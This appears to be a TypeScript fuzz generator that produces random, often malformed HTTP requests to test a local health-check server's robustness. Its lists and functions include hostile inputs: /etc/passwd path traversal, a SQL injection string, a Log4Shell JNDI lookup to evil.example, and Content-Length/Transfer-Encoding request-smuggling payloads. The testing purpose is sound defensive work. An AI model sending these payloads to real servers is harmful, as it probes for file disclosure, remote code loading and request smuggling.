/** Bytes that a client may send, from what it should to what no client ever would. */
import type { Chance } from '../simulator/random.ts';

export type Payload = {
  readonly bytes: Buffer;
  /** Sent in so many pieces, each after a turn of the loop. */
  readonly pieces: number;
  /** Whether an answer is due: one request, whole and well-formed. */
  readonly isWhole: boolean;
};

const METHODS = ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'OPTIONS', 'PATCH', 'TRACE'] as const;
const ROUTES = [
  '/health',
  '/health/live',
  '/health/ready',
  '/metrics',
  '/status',
  '/',
  '/favicon.ico',
  '/status/',
  '/STATUS',
  '//status',
  '/st%61tus',
  '/status%00',
  '/../../etc/passwd',
  '/%2e%2e/%2e%2e/etc/passwd',
  '/status;a=b',
  '/health/live/../../status',
  'http://evil.example/status',
  '*',
  '/%zz',
  '/\u00ff\u00fe',
] as const;
const NAMES = [
  'authorization',
  'x-api-key',
  'x-forwarded-for',
  'accept',
  'accept-encoding',
  'cookie',
  'connection',
  'upgrade',
  'expect',
  'range',
  'if-none-match',
  'content-type',
  'transfer-encoding',
  'content-length',
  'te',
  'trailer',
  'origin',
  'x-http-method-override',
  'host',
] as const;
const VALUES = [
  '',
  'close',
  'keep-alive',
  'chunked',
  'chunked, chunked',
  'identity',
  '0',
  '-1',
  '1e3',
  '18446744073709551616',
  '100-continue',
  'websocket',
  'h2c',
  'bytes=0-99999999999',
  '*',
  'Bearer ',
  'Bearer x y',
  'Basic Zm9vOmJhcg==',
  "' or 1=1 --",
  '${jndi:ldap://evil.example/a}',
  '\u00e9\u00ff',
  '\t \t',
  'gzip, br;q=1.0',
] as const;

/** Text of `length` characters, printable but for a few. */
const text = (chance: Chance, length: number): string =>
  Array.from({ length }, () =>
    String.fromCharCode(chance.happens(0.95) ? chance.integer(33, 126) : chance.integer(0, 255)),
  ).join('');

const method = (chance: Chance): string => (chance.happens(0.6) ? 'GET' : chance.pick(METHODS));

const target = (chance: Chance): string => {
  const route = chance.pick(ROUTES);
  if (chance.happens(0.1)) return `${route}?${text(chance, chance.integer(0, 3000))}`;
  return chance.happens(0.1) ? `${route}${text(chance, chance.integer(0, 40))}` : route;
};

const header = (chance: Chance): string => {
  const name = chance.happens(0.8) ? chance.pick(NAMES) : text(chance, chance.integer(0, 20));
  const value = chance.happens(0.8) ? chance.pick(VALUES) : text(chance, chance.integer(0, 200));
  return `${name}: ${value}\r\n`;
};

/** One request, whole and well-formed, which must be answered. */
const plain = (chance: Chance): string => {
  const route = ROUTES[chance.integer(0, 8)] ?? '/';
  const key = chance.happens(0.3) ? `x-api-key: ${chance.integer(0, 1e9)}\r\n` : '';
  const line = `${method(chance)} ${route} HTTP/1.1\r\nHost: localhost\r\n`;
  return `${line}${key}Connection: close\r\n\r\n`;
};

/** The form of a request, filled with anything. */
const strange = (chance: Chance): string => {
  const headers = Array.from({ length: chance.integer(0, 8) }, () => header(chance)).join('');
  const version = chance.happens(0.8)
    ? '1.1'
    : chance.pick(['1.0', '0.9', '2.0', '1.1\u0000', '9']);
  const body = chance.happens(0.3) ? text(chance, chance.integer(0, 200)) : '';
  const line = `${method(chance)} ${target(chance)} HTTP/${version}\r\n`;
  return `${line}Host: localhost\r\n${headers}\r\n${body}`;
};

/** Two notions of where a request ends, and a second one behind it. */
const smuggled = (chance: Chance): string => {
  const hidden = 'GET /status HTTP/1.1\r\nHost: localhost\r\n\r\n';
  const lengths = [
    `Content-Length: ${chance.integer(0, 99)}\r\n`,
    'Transfer-Encoding: chunked\r\n',
  ];
  const heads = Array.from({ length: chance.integer(1, 3) }, () => lengths[chance.integer(0, 1)]);
  const chunk = `${chance.pick(['0', '5', 'ffffffffffffffff', '-1', 'x', '0;a=b'])}\r\n\r\n`;
  const line = `${method(chance)} /health HTTP/1.1\r\nHost: localhost\r\n`;
  return `${line}${heads.join('')}\r\n${chunk}${hidden}`;
};

const large = (chance: Chance): string => {
  const length = chance.integer(1000, 100_000);
  const names = Array.from({ length: chance.integer(50, 400) }, (_, at) => `x-${at}: 1\r\n`);
  const long = `x-long: ${'a'.repeat(length)}\r\n`;
  if (chance.happens(0.5)) return `GET /${'a'.repeat(length / 10)} HTTP/1.1\r\nHost: a\r\n\r\n`;
  const headers = chance.happens(0.5) ? names.join('') : long;
  return `GET /health HTTP/1.1\r\nHost: localhost\r\n${headers}\r\n`;
};

const noise = (chance: Chance): string =>
  Array.from({ length: chance.integer(1, 400) }, () =>
    String.fromCharCode(chance.integer(0, 255)),
  ).join('');

/** A few bytes changed, put in, taken out; or all from somewhere on. */
const mutated = (chance: Chance, of: string): string => {
  let bytes = of;
  for (let round = chance.integer(1, 4); round > 0; round -= 1) {
    const at = chance.integer(0, bytes.length);
    const put = chance.happens(0.7) ? text(chance, chance.integer(0, 3)) : '\r\n';
    bytes = `${bytes.slice(0, at)}${put}${bytes.slice(at + chance.integer(0, 3))}`;
  }
  return chance.happens(0.2) ? bytes.slice(0, chance.integer(0, bytes.length)) : bytes;
};

/** The next of an endless row that the seed decides. */
export const payloadOf = (chance: Chance): Payload => {
  const kind = chance.next();
  const pieces = chance.happens(0.2) ? chance.integer(2, 6) : 1;
  const of = (bytes: string, isWhole = false): Payload => ({
    bytes: Buffer.from(bytes, 'latin1'),
    pieces,
    isWhole,
  });
  if (kind < 0.3) return of(plain(chance), true);
  if (kind < 0.55) return of(strange(chance));
  if (kind < 0.65) return of(smuggled(chance));
  if (kind < 0.7) return of(large(chance));
  if (kind < 0.8) return of(noise(chance));
  if (kind < 0.85) return of(plain(chance).repeat(chance.integer(2, 20)));
  return of(mutated(chance, chance.happens(0.5) ? plain(chance) : strange(chance)));
};
